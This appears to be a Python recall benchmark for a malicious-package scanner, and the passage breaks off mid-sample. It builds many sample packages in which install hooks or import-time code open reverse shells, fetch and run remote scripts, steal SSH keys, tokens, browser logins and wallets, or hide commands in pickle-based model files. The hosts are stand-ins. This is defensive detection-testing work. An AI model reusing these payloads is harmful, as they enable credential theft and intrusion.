#!/usr/bin/env python3
"""Recall check: build realistic malicious samples from patterns documented in public
malware write-ups (no live malware is downloaded; payload hosts are documentation IPs and
example domains), scan each with `pipgate scan` under the repo's policy.yaml, and report
which are caught (blocked), which are only flagged (annotated), and which are missed.

Two sets, reported side by side: the TUNING set below (detectors may be tuned on it) and
the HELD-OUT set in bench/recall_heldout.py (only measured, never tuned on). Each sample
names the behaviour classes it exercises, so per-class recall is printed too.

Usage: bench/recall.py [--set=tuning|heldout|all] [--hide-heldout]   (needs `cargo build --release`;
PIPGATE_BIN or CARGO_TARGET_DIR point it at another build, PIPGATE_POLICY at another policy).
--hide-heldout prints no held-out row, only counts: whoever tunes detectors measures the
held-out set without learning which samples it misses.
"""
import base64
import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PIPGATE = os.environ.get("PIPGATE_BIN") or os.path.join(
    os.environ.get("CARGO_TARGET_DIR") or os.path.join(ROOT, "target"), "release", "pipgate")
B64 = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731

SETUP_HEAD = "from setuptools import setup\n"


def setup_with_hook(body, name):
    return (
        "import os, sys, subprocess, urllib.request, base64, socket\n"
        "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
        "class PostInstall(install):\n    def run(self):\n"
        + "".join("        " + l + "\n" for l in body.splitlines())
        + "        install.run(self)\n\n"
        f"setup(name='{name}', version='1.0', cmdclass={{'install': PostInstall}})\n"
    )


def setup_module_level(body, name):
    return "import os, sys, subprocess, urllib.request, base64, socket, platform, getpass\n" + body + \
        f"\nfrom setuptools import setup\nsetup(name='{name}', version='1.0')\n"


def _pickle_exec(code):
    """Pickle bytes (as latin-1 text) whose loading calls exec(code)."""
    import pickle

    class _R:
        def __reduce__(self):
            return (exec, (code,))

    return pickle.dumps(_R(), protocol=2).decode("latin-1")


def _reduce_pickle(func_module, func_name, args, protocol):
    """Pickle bytes (latin-1 text) whose load calls func_module.func_name(*args), written by
    CPython's own pickler (a stand-in function registered under that name, never called)."""
    import pickle
    import types

    mod = sys.modules.get(func_module) or types.ModuleType(func_module)
    stand_in = getattr(mod, func_name, None)
    if stand_in is None:
        def stand_in(*a):  # noqa: E306
            raise RuntimeError("never called")
        stand_in.__module__, stand_in.__qualname__ = func_module, func_name
        setattr(mod, func_name, stand_in)
        sys.modules.setdefault(func_module, mod)

    class _R:
        def __reduce__(self):
            return (stand_in, args)

    return pickle.dumps(_R(), protocol=protocol).decode("latin-1")


def _zip_member(entries, method=zipfile.ZIP_STORED):
    """A zip (PyTorch's checkpoint layout) as latin-1 text."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in entries:
            z.writestr(name, data.encode("latin-1") if isinstance(data, str) else data)
    return buf.getvalue().decode("latin-1")


def _npy_objects(pickled):
    """A .npy file (format 1.0) holding an object array: the header, then a pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return "\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little").decode("latin-1") + header + pickled


# (name, kind, {path: content}, pattern, write-up it follows)
SAMPLES = [
    ("demo-w4sp", "sdist", {"setup.py": setup_module_level(
        "exec(base64.b64decode('" + B64('import urllib.request;exec(urllib.request.urlopen("http://203.0.113.9/inject").read())') + "'))", "demo-w4sp")},
     "base64 exec at module level of setup.py", "W4SP stealer campaign"),
    ("demo-discord-grab", "sdist", {"setup.py": setup_with_hook(
        "tokens = open(os.path.expanduser('~/AppData/Roaming/discord/Local Storage/leveldb/000005.ldb'), 'rb').read()\n"
        "urllib.request.urlopen('https://discord.com/api/webhooks/1098765432109876543/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdefghijklmnopqrstuvwxyzABCD', data=tokens)",
        "demo-discord-grab")}, "Discord token theft to a webhook at install", "noblesse / loglib-modules"),
    ("demo-ctx", "wheel", {"demo_ctx/__init__.py":
        "import os, urllib.request, json\n"
        "def _init():\n    data = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen('https://demo-ctx.herokuapp.example.org/collect', data=data)\n_init()\n"},
     "environment variables exfiltrated on import", "ctx hijack (2022)"),
    ("demo-revshell", "sdist", {"setup.py": setup_with_hook(
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.50', 4444))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', '-i'])",
        "demo-revshell")}, "reverse shell in an install hook", "10Cent10 / importantpackage"),
    ("demo-pymafka", "sdist", {"setup.py": setup_with_hook(
        "if sys.platform == 'win32':\n    urllib.request.urlretrieve('http://203.0.113.7/win.exe', os.environ['TEMP'] + '/win.exe')\n"
        "    subprocess.Popen(os.environ['TEMP'] + '/win.exe')\nelse:\n    os.system('curl -s http://203.0.113.7/MacOs -o /tmp/MacOs && chmod +x /tmp/MacOs && /tmp/MacOs')",
        "demo-pymafka")}, "platform-specific dropper downloads and runs a binary", "pymafka (Cobalt Strike)"),
    ("demo-secretslib", "sdist", {"setup.py": setup_with_hook(
        "data = urllib.request.urlopen('http://203.0.113.8/bin').read()\nfd = os.memfd_create('x')\nos.write(fd, data)\n"
        "os.execv('/proc/self/fd/%d' % fd, ['x'])", "demo-secretslib")}, "download ELF and execute from memory", "secretslib"),
    ("demo-torchtriton", "wheel", {"demo_torchtriton/__init__.py":
        "import os, socket, getpass, platform\n"
        "def collect():\n    info = {'host': socket.gethostname(), 'user': getpass.getuser(), 'cwd': os.getcwd()}\n"
        "    info['passwd'] = open('/etc/passwd').read()\n"
        "    info['ssh'] = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "    s = socket.socket(); s.connect(('203.0.113.66', 53)); s.send(repr(info).encode())\ncollect()\n"},
     "harvests host info, /etc/passwd and SSH keys and sends them", "torchtriton dependency confusion"),
    ("demo-pth-loader", "wheel", {"demo_pth_loader.pth":
        "import base64;exec(base64.b64decode('" + B64('import os;os.system("curl http://203.0.113.7/x | sh")') + "'))\n"},
     ".pth file runs decoded code at every interpreter start", ".pth persistence write-ups"),
    ("demo-pyarmor", "wheel", {"demo_pyarmor/__init__.py":
        "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r')\n",
        "demo_pyarmor/pyarmor_runtime_000000/__init__.py": "from .pyarmor_runtime import __pyarmor__\n"},
     "PyArmor-packed payload", "PyArmor-obfuscated stealers"),
    ("demo-powershell", "sdist", {"setup.py": setup_with_hook(
        "subprocess.call('powershell -w hidden -nop -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString(\\'http://203.0.113.7/a.ps1\\')\"', shell=True)",
        "demo-powershell")}, "silent PowerShell download cradle", "colorslib / httpslib / libhttps"),
    ("demo-browser-steal", "wheel", {"demo_browser_steal/__init__.py":
        "import os, shutil, sqlite3, requests\n"
        "p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
        "shutil.copy(p, 'ld.db')\nrows = sqlite3.connect('ld.db').execute('select origin_url, username_value, password_value from logins').fetchall()\n"
        "requests.post('https://api.telegram.org/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendDocument', data={'d': str(rows)})\n"},
     "Chrome Login Data theft sent to a Telegram bot", "Telegram-exfil stealers"),
    ("demo-wallet", "wheel", {"demo_wallet/__init__.py":
        "import os, zipfile, requests\nW = [os.path.expanduser('~/.electrum/wallets'), os.path.join(os.environ.get('APPDATA',''), 'Exodus', 'exodus.wallet'),\n"
        "     'nkbihfbeogaeaoehlefnkodbefgpgknn']\n"
        "def grab():\n    for w in W:\n        if os.path.exists(w):\n            requests.post('https://paste.example.org/api', files={'f': open(w, 'rb')})\ngrab()\n"},
     "crypto wallet theft", "wallet-stealer campaigns"),
    ("demo-persist-cron", "sdist", {"setup.py": setup_with_hook(
        "os.system('(crontab -l; echo \"@reboot curl -s http://203.0.113.7/p | sh\") | crontab -')", "demo-persist-cron")},
     "cron persistence at install", "Linux persistence write-ups"),
    ("demo-persist-run", "wheel", {"demo_persist_run/__init__.py":
        "import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable + ' -m demo_persist_run')\n"},
     "registry Run key persistence", "Windows stealer write-ups"),
    ("demo-startup", "wheel", {"demo_startup/__init__.py":
        "import os, shutil, urllib.request\n"
        "d = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
        "urllib.request.urlretrieve('http://203.0.113.7/svc.exe', os.path.join(d, 'svc.exe'))\n"},
     "drops an executable into the Startup folder", "Startup-folder droppers"),
    ("demo-zlib-marshal", "wheel", {"demo_zlib_marshal/__init__.py":
        "import zlib, marshal, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'" +
        base64.b64encode(zlib.compress(b"x" * 64)).decode() + "'))))\n"},
     "zlib+marshal decode then exec", "multi-layer obfuscation write-ups"),
    ("demo-hex-exec", "wheel", {"demo_hex_exec/__init__.py":
        "exec(bytes.fromhex('" + "import os;os.system('id')".encode().hex() + "').decode())\n"},
     "hex-decoded exec", "obfuscated loaders"),
    ("demo-reverse-b64", "wheel", {"demo_reverse_b64/__init__.py":
        "import base64\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'" +
        base64.b64encode(zlib.compress(b"print(1)")).decode()[::-1] + "'))\n"},
     "reversed base64 + zlib lambda exec", "pyobfuscate-style payloads"),
    ("demo-bidi", "wheel", {"demo_bidi/__init__.py":
        "def is_admin(user):\n    access = 'user'\n    if access != 'none\u202e \u2066# admin only\u2069 \u2066':\n        return True\n    return False\n"},
     "Trojan Source bidi controls in code", "Trojan Source (CVE-2021-42574)"),
    ("demo-aws-key", "wheel", {"demo_aws_key/config.py":
        "AWS_ACCESS_KEY_ID = 'AKIAQ4RTL2BZ7K6MXN3P'\nAWS_SECRET_ACCESS_KEY = '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'\n"},
     "a live-looking AWS key pair shipped in code", "leaked-credential studies"),
    ("demo-gh-token", "wheel", {"demo_gh_token/settings.py": "GITHUB_TOKEN = 'ghp_4Vx9LmQ2rT7sW1yZ8bN3cK6dF0hJ5gA2eP9u'\n"},
     "a GitHub token shipped in code", "leaked-credential studies"),
    ("demo-private-key", "wheel", {"demo_private_key/deploy_key.pem":
        "-----BEGIN OPENSSH PRIVATE KEY-----\n" + base64.b64encode(os.urandom(400)).decode() + "\n-----END OPENSSH PRIVATE KEY-----\n"},
     "a private key shipped in the package", "leaked-credential studies"),
    # A look-alike name and nothing else: annotated by design (issue 11: name-only signals never
    # block on their own), so it counts under the `name-only` class, expected "flagged".
    ("reqeusts", "wheel", {"reqeusts/__init__.py": "from requests import *\n"},
     "typosquat of a top project", "typosquatting campaigns"),
    ("colourama", "wheel", {"colourama/__init__.py":
        "import threading, time, re, pyperclip\n"
        "def _swap():\n    while True:\n        if re.match(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', pyperclip.paste()):\n"
        "            pyperclip.copy('1ExampleAddressExampleAddress000')\n        time.sleep(1)\n"
        "threading.Thread(target=_swap, daemon=True).start()\n"},
     "typosquat of colorama that swaps wallet addresses in the clipboard", "colourama (2018)"),
    ("python3-dateutil", "sdist", {"setup.py":
        "import urllib.request, zlib, base64\nfrom setuptools import setup\n"
        "exec(zlib.decompress(base64.b64decode(urllib.request.urlopen('https://code.example.org/raw/x').read())))\n"
        "setup(name='python3-dateutil', version='1.0')\n"},
     "typosquat of python-dateutil whose setup.py fetches, decodes and runs code", "python3-dateutil (2019)"),
    ("jeIlyfish", "wheel", {"jeIlyfish/__init__.py":
        "import os, urllib.request\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "urllib.request.urlopen('http://203.0.113.70/k', data=k.encode())\n"},
     "homoglyph typosquat of jellyfish that sends the SSH key on import", "jeIlyfish (2019)"),
    ("demo-hook-only", "sdist", {"setup.py": setup_with_hook(
        "urllib.request.urlopen('http://203.0.113.7/ping?h=' + socket.gethostname())", "demo-hook-only")},
     "empty package whose only content is an install hook that phones home", "dependency-confusion probes"),
    ("demo-disposable", "wheel", {"demo_disposable/__init__.py": "VERSION = '1'\n"},
     "author with a disposable email address", "seed report: anonymous authors"),
    ("demo-shortener", "wheel", {"demo_shortener/__init__.py":
        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://bit.ly/3xAmPlE', '/tmp/u.sh')\nsubprocess.run(['sh', '/tmp/u.sh'])\n"},
     "URL shortener to hide a download, then run it", "shortener-hidden droppers"),
    ("demo-trusted-sub", "wheel", {"demo_trusted_sub/__init__.py":
        "import urllib.request\nurllib.request.urlretrieve('https://paypal.com.account-verify.example.ru/update.exe', 'update.exe')\n"},
     "trusted domain used as a subdomain for a download", "seed report: trusted domains as subdomains"),
    ("demo-sitecustomize", "wheel", {"sitecustomize.py":
        "import os, urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/s').read())\n"},
     "sitecustomize.py that fetches and runs code at every start", ".pth / sitecustomize persistence"),
    ("demo-native-sdist", "sdist", {"setup.py": SETUP_HEAD + "setup(name='demo-native-sdist', version='1.0')\n",
                                    "bin/helper": "\x7fELF\x02\x01\x01" + "\x00" * 64},
     "native ELF binary hidden in an sdist", "binary droppers in sdists"),
    ("demo-dns-exfil", "wheel", {"demo_dns_exfil/__init__.py":
        "import socket, getpass, platform, base64\n"
        "d = base64.b32encode((getpass.getuser() + '@' + platform.node()).encode()).decode().strip('=')\n"
        "socket.gethostbyname(d + '.oob.example.org')\n"},
     "DNS exfiltration of user and host", "dependency-confusion DNS beacons"),

    # --- tuning cases for the behaviour classes of issue 10, written from the class
    # descriptions (held-out cases live in bench/recall_heldout.py and are never tuned on).
    ("demo-screenshot", "wheel", {"demo_screenshot/__init__.py":
        "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\n"
        "requests.post('https://hooks.example.org/u', files={'s': b.getvalue()})\n"},
     "screenshot sent out on import", "screen-capture stealers"),
    ("demo-clipboard", "wheel", {"demo_clipboard/__init__.py":
        "import subprocess, urllib.request\nclip = subprocess.check_output(['xclip', '-o', '-selection', 'clipboard'])\n"
        "urllib.request.urlopen('http://203.0.113.3/c', data=clip)\n"},
     "clipboard read and sent on import", "clipboard stealers"),
    ("demo-dict-access", "wheel", {"demo_dict_access/__init__.py":
        "import os\nos.__dict__['sys' + 'tem']('curl -s http://203.0.113.4/x | sh')\n"},
     "os.system reached through the module dict with a built name", "dynamic API access"),
    ("demo-import-module", "sdist", {"setup.py":
        "import importlib\nfrom setuptools import setup\nm = importlib.import_module('so' + 'cket')\n"
        "s = m.socket(); s.connect(('203.0.113.5', 9001))\nsetup(name='demo-import-module', version='1.0')\n"},
     "socket imported under a built name at install", "dynamic API access"),
    ("demo-b64-subprocess", "sdist", {"setup.py":
        "import base64, subprocess, sys\nfrom setuptools import setup\n"
        "payload = base64.b64decode('" + B64("import os;os.system('id')") + "').decode()\n"
        "subprocess.Popen([sys.executable, '-c', payload])\nsetup(name='demo-b64-subprocess', version='1.0')\n"},
     "decoded payload run through python -c at install", "decode-then-run in any sink"),
    ("demo-injection", "wheel", {"demo_injection/__init__.py":
        "import ctypes\nk = ctypes.windll.kernel32\nh = k.OpenProcess(0x1F0FFF, False, 4242)\n"
        "a = k.VirtualAllocEx(h, 0, 4096, 0x3000, 0x40)\nk.WriteProcessMemory(h, a, b'\\x90' * 16, 16, None)\n"
        "k.CreateRemoteThread(h, None, 0, a, None, 0, None)\n"},
     "remote-process injection through kernel32", "native injection"),
    ("demo-env-ngrok", "wheel", {"demo_env_ngrok/__init__.py":
        "import os, json, requests\nrequests.post('https://4f2a-198-51-100-2.ngrok-free.app/e', data=json.dumps(dict(os.environ)))\n"},
     "environment dumped to a tunnelling service on import", "exfiltration to tunnels"),
    ("demo-drop-run", "wheel", {"demo_drop_run/__init__.py":
        "import os, tempfile, urllib.request, subprocess\np = os.path.join(tempfile.gettempdir(), 'upd.sh')\n"
        "data = urllib.request.urlopen('http://203.0.113.6/u').read()\nwith open(p, 'wb') as f:\n    f.write(data)\n"
        "subprocess.call(['bash', p])\n"},
     "download, write to temp, run, across statements", "download-write-run"),
    ("demo-ipv6-url", "wheel", {"demo_ipv6_url/__init__.py":
        "import urllib.request\nexec(urllib.request.urlopen('http://[2001:db8::7]/stage2').read())\n"},
     "IPv6-literal URL fetched and run", "shady links"),
    ("demo-pixels", "wheel", {"demo_pixels/__init__.py":
        "from PIL import Image\nimport os\nim = Image.open(os.path.join(os.path.dirname(__file__), 'icon.png'))\n"
        "bits = ''.join(str(p[0] & 1) for p in im.getdata())\n"
        "code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]\nexec(code)\n"},
     "code from image pixel LSBs executed", "steganography"),
    ("demo-egg-info-hook", "sdist", {"setup.py":
        "import os\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n"
        "class E(egg_info):\n    def run(self):\n        os.system('curl -s http://203.0.113.8/e | sh')\n        egg_info.run(self)\n"
        "setup(name='demo-egg-info-hook', version='1.0', cmdclass={'egg_info': E})\n"},
     "egg_info override runs a download when pip only asks for metadata", "install-time anomalies"),
    ("demo-hidden-semicolon", "wheel", {"demo_hidden_semicolon/__init__.py":
        "VERSION = '1.0'" + " " * 300 + ";import os;os.system('curl -s http://203.0.113.9/h|sh')\n"},
     "payload pushed past the visible line", "code hidden from view"),
    ("demo-oast-beacon", "sdist", {"setup.py":
        "import socket, getpass, os, urllib.request\nfrom setuptools import setup\n"
        "urllib.request.urlopen('http://x1.oastify.com/?h=' + socket.gethostname() + '&u=' + getpass.getuser() + '&d=' + os.getcwd())\n"
        "setup(name='demo-oast-beacon', version='1.0')\n"},
     "host/user/cwd beacon to an OOB collaborator at install", "dependency-confusion beacons"),
    ("demo-fake-pyc", "wheel", {"demo_fake_pyc/__init__.py":
        "import zipimport, os\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'cache.pyc')).load_module('p')\n",
        "demo_fake_pyc/cache.pyc": "PK\x03\x04" + "\x00" * 26 + "p.py"},
     "a .pyc member that is really a zip archive, imported", "payloads in non-source members"),

    # --- tuning cases added with the import-time call graph, escaped names, decoder loops and
    # clipboard swappers (2026-11-30); the held-out misses they answer are classes, not cases.
    ("demo-thread-dropper", "wheel", {"demo_thread_dropper/__init__.py":
        "import os, threading, subprocess, urllib.request\n"
        "def _update():\n    p = os.path.expanduser('~/.cache/upd.sh')\n"
        "    urllib.request.urlretrieve('http://203.0.113.14/u.sh', p)\n    subprocess.call(['sh', p])\n"
        "threading.Thread(target=_update, daemon=True).start()\n"},
     "download and run from a function started on a thread at import", "import-time call graph"),
    ("demo-helper-chain", "wheel", {"demo_helper_chain/__init__.py":
        "import logging, urllib.request\n"
        "def _fetch_config():\n    exec(urllib.request.urlopen('https://cfg.example.org/c.py').read())\n"
        "def _setup_logging():\n    logging.basicConfig(level=logging.INFO)\n    _fetch_config()\n"
        "_setup_logging()\n"},
     "fetch-and-exec two calls deep from a logging setup called at import", "import-time call graph"),
    ("demo-escaped-getattr", "wheel", {"demo_escaped_getattr/__init__.py":
        "getattr(__import__('os'), '\\x73\\x79\\x73\\x74\\x65\\x6d')('curl -s http://203.0.113.15/i | sh')\n"},
     "os.system spelt in hex escapes through getattr at import", "dynamic API access"),
    ("demo-layer-loop", "wheel", {"demo_layer_loop/core.py":
        "import base64, zlib\nunwrap = lambda b: zlib.decompress(base64.b85decode(b))\n"
        "blob = b'" + base64.b85encode(zlib.compress(base64.b85encode(zlib.compress(b"import os; os.system('id')")))).decode() + "'\n"
        "for _ in range(2):\n    blob = unwrap(blob)\nexec(compile(blob, '<core>', 'exec'))\n",
        "demo_layer_loop/__init__.py": "from . import core\n"},
     "base85+zlib layers peeled in a loop, then compiled and run", "decode-then-run in any sink"),
    ("demo-clip-hijack", "wheel", {"demo_clip_hijack/__init__.py":
        "import threading, win32clipboard\n"
        "def _tick():\n    win32clipboard.OpenClipboard()\n    v = win32clipboard.GetClipboardData()\n"
        "    if v.startswith('0x') and len(v) == 42:\n        win32clipboard.EmptyClipboard()\n"
        "        win32clipboard.SetClipboardText('0x52908400098527886E0F7030069857D2E4169EE7')\n"
        "    win32clipboard.CloseClipboard()\n    threading.Timer(1.0, _tick).start()\n"
        "threading.Timer(1.0, _tick).start()\n"},
     "clipboard watcher swapping Ethereum addresses, started by a timer at import", "clipboard hijackers"),

    # --- third tuning batch (2026-11-30, helper "recall3"): other incidents than the held-out
    # ones, for the weak classes (credential theft, exfiltration, download-write-run, runs on
    # import, shady links); written after the third held-out batch was committed and measured.
    ("demo-jarka", "wheel", {"demo_jarka/__init__.py":
        "import os, subprocess, tempfile, urllib.request\n"
        "def _pull(url, name):\n    dst = os.path.join(tempfile.gettempdir(), name)\n"
        "    urllib.request.urlretrieve(url, dst)\n    return dst\n"
        "def _boot():\n    jar = _pull('https://github.example.org/rel/JavaUpdater.jar', 'JavaUpdater.jar')\n"
        "    subprocess.Popen(['java', '-jar', jar])\n_boot()\n"},
     "a helper downloads a JAR to the temp dir, its caller runs it, on import",
     "Kaspersky, gptplus / claudeai-eng JarkaStealer (2024)"),
    ("demo-token-grab", "wheel", {"demo_token_grab/__init__.py":
        "import os, re, glob, json, urllib.request\n"
        "_HOOK = 'https://discord.com/api/webhooks/1200000000000000000/aGVsbG8td29ybGQtdG9rZW4'\n"
        "def _find():\n    out = []\n"
        "    for d in glob.glob(os.path.join(os.getenv('APPDATA', ''), '*cord*', 'Local Storage', 'leveldb', '*.ldb')):\n"
        "        out += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(d, errors='ignore').read())\n    return out\n"
        "def _send(msg):\n    urllib.request.urlopen(urllib.request.Request(_HOOK, data=json.dumps({'content': msg}).encode(), headers={'Content-Type': 'application/json'}))\n"
        "_send('\\n'.join(_find()))\n"},
     "Discord tokens read from leveldb files and sent by a helper to a webhook, on import",
     "FortiGuard Labs, zlibxjson token grabber (2024)"),
    ("demo-gs-decorator", "wheel", {"demo_gs_decorator/__init__.py":
        "import functools, subprocess, requests\n"
        "def _trace(fn):\n    @functools.wraps(fn)\n    def inner(*a, **k):\n"
        "        subprocess.Popen('bash -c \"$(curl -fsSL https://gsocket.example.org/y)\"', shell=True)\n"
        "        return fn(*a, **k)\n    return inner\n"
        "requests.get = _trace(requests.get)\n"},
     "requests.get wrapped on import so the first request fetches and runs a shell script",
     "Socket, dbgpkg gsocket backdoor (2025)"),
    ("demo-hf-pickle", "wheel", {"demo_hf_pickle/__init__.py":
        "import os, pickle\n_cfg = pickle.load(open(os.path.join(os.path.dirname(__file__), 'weights.pkl'), 'rb'))\n",
        "demo_hf_pickle/weights.pkl": _pickle_exec(
            "import socket, subprocess, os\ns = socket.create_connection(('203.0.113.88', 4242))\n"
            "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])\n")},
     "a bundled pickle whose load opens a reverse shell, loaded on import",
     "JFrog, malicious pickled models on a model hub (2024)"),
    ("demo-cmd-poll", "wheel", {"demo_cmd_poll/__init__.py":
        "import subprocess, threading, time, requests\n"
        "def _poll():\n    while True:\n        job = requests.get('https://c2.example.org/job', timeout=10).json()\n"
        "        res = subprocess.getoutput(job['cmd'])\n        requests.post('https://c2.example.org/res', data={'o': res})\n        time.sleep(30)\n"
        "threading.Thread(target=_poll, daemon=True).start()\n"},
     "command read from an HTTP reply and run through the shell, in a thread started on import",
     "ESET, PyPI backdoors with remote command execution (2023)"),
    ("demo-b64-to-file", "sdist", {"setup.py":
        "import base64, os, subprocess, sys, tempfile\nfrom setuptools import setup\n"
        "_S = '" + B64("import os\nos.system('curl -s http://203.0.113.90/s | sh')\n") + "'\n"
        "p = os.path.join(tempfile.gettempdir(), 'stage.py')\n"
        "with open(p, 'w') as f:\n    f.write(base64.b64decode(_S).decode())\n"
        "subprocess.Popen([sys.executable, p])\n"
        "setup(name='demo-b64-to-file', version='1.0')\n"},
     "decoded stage written to a temp file and run with the interpreter at install",
     "Phylum, W4SP-stealer droppers (2022)"),
    ("demo-dl-helper-run", "sdist", {"setup.py":
        "import os, urllib.request, subprocess\nfrom setuptools import setup\n"
        "def fetch(u):\n    d = os.path.join(os.path.expanduser('~'), '.local', 'bin', 'svc')\n"
        "    with urllib.request.urlopen(u) as r, open(d, 'wb') as o:\n        o.write(r.read())\n    os.chmod(d, 0o755)\n    return d\n"
        "subprocess.Popen([fetch('http://203.0.113.91/svc')])\n"
        "setup(name='demo-dl-helper-run', version='1.0')\n"},
     "a helper downloads and marks a binary executable, the install script runs what it returns",
     "FortiGuard Labs, PyPI droppers (2023)"),
    ("demo-atomic-wallet", "wheel", {"demo_atomic_wallet/__init__.py":
        "import os, shutil, tempfile, requests\n"
        "_T = [os.path.join(os.getenv('APPDATA', ''), 'atomic', 'Local Storage', 'leveldb'),\n"
        "      os.path.join(os.getenv('APPDATA', ''), 'Ledger Live'),\n      os.path.expanduser('~/.bitmonero')]\n"
        "def _go():\n    for t in _T:\n        if os.path.isdir(t):\n"
        "            z = shutil.make_archive(os.path.join(tempfile.gettempdir(), os.path.basename(t)), 'zip', t)\n"
        "            requests.post('https://upload.example.org/u', files={'f': open(z, 'rb')})\n_go()\n"},
     "Atomic, Ledger Live and Monero wallet folders zipped and uploaded on import",
     "Checkmarx, wallet-stealer modules of PyPI stealers (2023)"),
    ("demo-keychain", "sdist", {"setup.py":
        "import subprocess, urllib.request\nfrom setuptools import setup\n"
        "pw = subprocess.run(['security', 'find-generic-password', '-wa', 'Chrome'], capture_output=True).stdout\n"
        "urllib.request.urlopen('http://203.0.113.92/k', data=pw)\n"
        "setup(name='demo-keychain', version='1.0')\n"},
     "the macOS keychain's Chrome Safe Storage password read and sent at install",
     "SentinelOne, macOS stealers spread through package registries (2023)"),
    ("demo-pypirc", "wheel", {"demo_pypirc/__init__.py":
        "import os, requests\n"
        "def _collect():\n    got = {}\n    for f in ('~/.pypirc', '~/.npmrc', '~/.netrc', '~/.docker/config.json', '~/.git-credentials'):\n"
        "        p = os.path.expanduser(f)\n        if os.path.exists(p):\n            got[f] = open(p).read()\n    return got\n"
        "requests.post('https://eo1x2y3z4.m.pipedream.net', json=_collect())\n"},
     "package-registry, docker and git credential files sent to a request bin on import",
     "Socket, registry-token stealers (2024)"),
    ("demo-raw-http", "wheel", {"demo_raw_http/__init__.py":
        "import os, socket, json\n"
        "def _b():\n    d = json.dumps({'u': os.getenv('USER'), 'h': socket.gethostname(), 'env': dict(os.environ)}).encode()\n"
        "    s = socket.create_connection(('203.0.113.93', 80))\n"
        "    s.send(b'POST /i HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d) + d)\n_b()\n"},
     "environment and host sent in a hand-built HTTP request on a raw socket, on import",
     "Checkmarx, dependency-confusion probes over raw sockets (2022)"),
    ("demo-tinyurl", "sdist", {"setup.py":
        "import os\nfrom setuptools import setup\n"
        "os.system('curl -sL https://tinyurl.com/2p8k4x9z | bash')\n"
        "setup(name='demo-tinyurl', version='1.0')\n"},
     "shortened URL piped into bash at install",
     "Phylum, shortener-hidden install scripts (2023)"),
    ("demo-iwr-iex", "wheel", {"demo_iwr_iex/__init__.py":
        "import subprocess, sys\nif sys.platform == 'win32':\n"
        "    subprocess.Popen(['powershell', '-w', 'hidden', '-c', 'iwr -useb https://203.0.113.94/a.ps1 | iex'])\n"},
     "PowerShell iwr | iex in a subprocess argument list on import",
     "ESET, PyPI PowerShell downloaders (2023)"),

    # ---- Round 4 (recall4, 2026-12-01): tuning samples from write-ups not used elsewhere ----
    ("demo-joblib-dropper", "wheel", {
        "demo_joblib_dropper/__init__.py": "import os, joblib\n"
        "MODEL = joblib.load(os.path.join(os.path.dirname(__file__), 'clf.joblib'))\n",
        "demo_joblib_dropper/clf.joblib": _reduce_pickle(
            "subprocess", "Popen", (["/bin/sh", "-c", "curl -s http://203.0.113.61/m | sh"],), 4)},
     "joblib model whose pickle starts a shell download (dropper approach); loaded on import",
     "J. Delbar, why pickle is an unsafe model-storing format (2024)"),
    ("demo-npy-objects", "wheel", {
        "demo_npy_objects/__init__.py": "import numpy as np, pathlib\n"
        "EMB = np.load(pathlib.Path(__file__).with_name('emb.npy'), allow_pickle=True)\n",
        "demo_npy_objects/emb.npy": _npy_objects(_reduce_pickle("os", "system", ("id > /tmp/.x; curl -s http://203.0.113.62/i | sh",), 3))},
     "object-array .npy whose pickle runs a command, loaded with allow_pickle on import",
     "numpy allow_pickle advisory (CVE-2019-6446) and its write-ups"),
    ("demo-ckpt-zip", "wheel", {
        "demo_ckpt_zip/model.py": "import torch, os\n"
        "def load():\n    return torch.load(os.path.join(os.path.dirname(__file__), 'best.ckpt'))\n",
        "demo_ckpt_zip/best.ckpt": _zip_member([
            ("best/data.pkl", _reduce_pickle("builtins", "exec", ("import os; os.system('touch /tmp/pwned')",), 4)),
            ("best/version", "3\n")], zipfile.ZIP_DEFLATED)},
     "checkpoint zip whose data.pkl calls exec (deflated entry)",
     "8kSec, malicious models: the pickle in your ML pipeline (2025)"),
    ("demo-gadget-pickle", "wheel", {
        "demo_gadget_pickle/__init__.py": "import pickle, os\n"
